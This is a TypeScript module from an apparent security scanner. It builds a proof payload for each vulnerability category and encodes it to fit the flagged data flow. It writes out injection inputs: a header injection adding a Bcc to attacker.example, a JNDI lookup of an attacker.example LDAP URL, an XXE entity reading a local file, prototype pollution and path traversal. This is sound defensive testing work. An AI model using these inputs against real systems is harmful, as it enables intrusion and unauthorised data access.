/**
 * For each category the input that would prove the flaw, fitted to the string it lands in. All payloads are
 * harmless: they show that the input is obeyed and change nothing.
 */
import type { TraceStep } from '../report.ts';
import type { Candidate } from '../results/candidate.ts';
import { path, redirect, serverRequest } from './address-payloads.ts';
import { code, command, nosql, sql, template, workflow, xpath } from './injection-payloads.ts';
import { markup } from './markup-payloads.ts';
import { type Fitting, type Payload, supports, weakens } from './payload.ts';
import { dangerousFileName, isMail, privilegedField, privilegedValue } from './payload-dialects.ts';
import { withoutBodyName } from './request-body.ts';
import { serialized } from './serialized-payloads.ts';
import { stringContext } from './string-context.ts';

const header: Fitting = (_context, { sinkApi }) =>
  isMail.test(sinkApi)
    ? supports('x\r\nBcc: someone@attacker.example', 'inside a header of the mail')
    : supports('x\r\nSet-Cookie: injected=1', 'inside a header');

/** Of an object that is stored as it was sent the field is known, else one is named that many programs have. */
const privilege: Fitting = (_context, { file, sinkArgument, entryPoint }) => {
  const isField = typeof sinkArgument === 'string' && sinkArgument === entryPoint?.parameter?.name;
  if (!isField)
    return { ...supports(`{"${privilegedField(file)}":true}`, 'as fields of the object'), isJson: true };
  const value = privilegedValue(sinkArgument);
  const payload = supports(String(value), 'in an object that is stored as it was sent');
  return typeof value === 'string' ? payload : { ...payload, isJson: true };
};

const seenInHead =
  (fitting: Fitting): Fitting =>
  (context, candidate) => {
    const payload = fitting(context, candidate);
    return payload && { ...payload, isSeenInHead: true };
  };

const upload: Fitting = (_context, { file }) => ({
  ...supports(dangerousFileName(file), 'as the name of the file that is kept'),
  isExample: true,
});

/** The checker of regular expressions has made the text already. */
const regex: Fitting = (context, { details }) => {
  const attack = { value: '', expression: details.attack ?? "''" };
  // Fixed text before it may already fail to match, and then nothing is tried.
  return context !== null && context.before !== ''
    ? { ...weakens('', 'after fixed text of what the regular expression is matched against'), ...attack }
    : { ...supports('', 'as the text that the regular expression is matched against'), ...attack };
};

const fixed =
  (value: string, where: string, extra: Partial<Payload> = {}): Fitting =>
  () => ({ ...supports(value, where), ...extra });

/** By category slug. A category that is not here has no payload (weak algorithms, configuration, secrets). */
const fittings: Readonly<Record<string, Fitting>> = {
  'unsafe-deserialization': serialized,
  'unrestricted-upload': upload,
  'jndi-injection': fixed('ldap://attacker.example/a', 'as the name that is looked up', { isExample: true }),
  'regex-injection': fixed('.*', 'as a pattern, which then matches anything', { isExample: true }),
  cors: seenInHead(
    fixed('https://attacker.example', 'as the origin that asks, and the answer allows it', {
      isExample: true,
    }),
  ),
  'sql-injection': sql,
  'command-injection': command,
  'code-injection': code,
  'workflow-injection': workflow,
  'path-traversal': path,
  'file-inclusion': path,
  'archive-slip': fixed('../../../../tmp/outside.txt', 'as the name of an archive entry'),
  ssrf: serverRequest,
  'open-redirect': seenInHead(redirect),
  xss: markup,
  'reflected-xss': markup,
  'stored-xss': markup,
  'dom-xss': markup,
  'template-injection': template,
  'xpath-injection': xpath,
  'nosql-injection': nosql,
  'ldap-injection': fixed('*)(objectClass=*', 'inside the filter'),
  'log-injection': fixed('ok\nERROR forged entry', 'inside a log line'),
  'header-injection': seenInHead(header),
  xxe: fixed('<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/hostname">]><x>&e;</x>', 'as the document', {
    bodyType: 'application/xml',
  }),
  'prototype-pollution': fixed('{"__proto__":{"polluted":true}}', 'as the object that is merged', {
    isJson: true,
  }),
  redos: regex,
  'slow-regex': regex,
  'mass-assignment': privilege,
};

/** The payload of this candidate, or null when its category has none or it has no flow. */
export function fitPayload(candidate: Candidate, category: string): (Payload & { isJudged: boolean }) | null {
  if (!candidate.source || !Object.hasOwn(fittings, category)) return null;
  const fitting = fittings[category];
  if (!fitting) return null;
  const context = stringContext(candidate.shape);
  const payload = fitting(context, candidate);
  return payload && { ...carried(payload, candidate), isJudged: context !== null && !payload.isExample };
}

/** As the field holds it: in JSON, encoded, or both. */
function carried(payload: Payload, candidate: Candidate): Payload {
  const { within: [name = ''] = [], isText } = withoutBodyName(candidate).entryPoint?.parameter ?? {};
  if (!isText) return encoded(payload, candidate);
  const { trace } = candidate;
  const isRead = ({ code }: TraceStep) => [...`.>:'"`].some((before) => code.includes(before + name));
  const decodes = trace.findIndex(isDecoding);
  const reads = trace.findIndex(isRead);
  return decodes > reads && reads >= 0
    ? asJson(encoded(payload, candidate), candidate)
    : encoded(asJson(payload, candidate), candidate);
}

/** The text of an object of which the value is a part. */
function asJson(payload: Payload, { entryPoint }: Candidate): Payload {
  const names = entryPoint?.parameter?.within ?? [];
  const { value, expression, isJson, where, ...rest } = payload;
  const inner = expression ?? (isJson ? value : JSON.stringify(value));
  const text = names.reduceRight((part, name) => `{${JSON.stringify(name)}:${part}}`, inner);
  const told = { ...rest, where: `${where}, as ${names.join('.')} of the JSON` };
  return expression === undefined
    ? { ...told, value: text }
    : { ...told, value, expression: `JSON.stringify(${text})` };
}

const base64Decoder =
  /\bb64decode|base64_?decode|decode_?base64|from_?base64|\batob\(|Base64\.(?:decode|strict_decode|urlsafe_decode)|getDecoder\(|(?:Std|URL)Encoding\.Decode|\b(?:STANDARD|URL_SAFE)\w*\.decode|['"]base64(?:url)?['"]\s*\)|\bunpack1?\(?\s*['"]m/i;

function isDecoding({ code }: TraceStep): boolean {
  return base64Decoder.test(code);
}

/** What is decoded on its way is sent encoded, as a text; bytes that are not are made where they are sent. */
function encoded(payload: Payload, { trace }: Candidate): Payload {
  const isDecoded = trace.some(isDecoding);
  const { value, where, isBinary, isJson: _, ...rest } = payload;
  if (isDecoded && payload.expression === undefined)
    return {
      ...rest,
      value: isBinary ? value : Buffer.from(value).toString('base64'),
      where: `${where}, once it is decoded`,
    };
  return isBinary ? { ...payload, expression: `Buffer.from('${value}', 'base64')` } : payload;
}
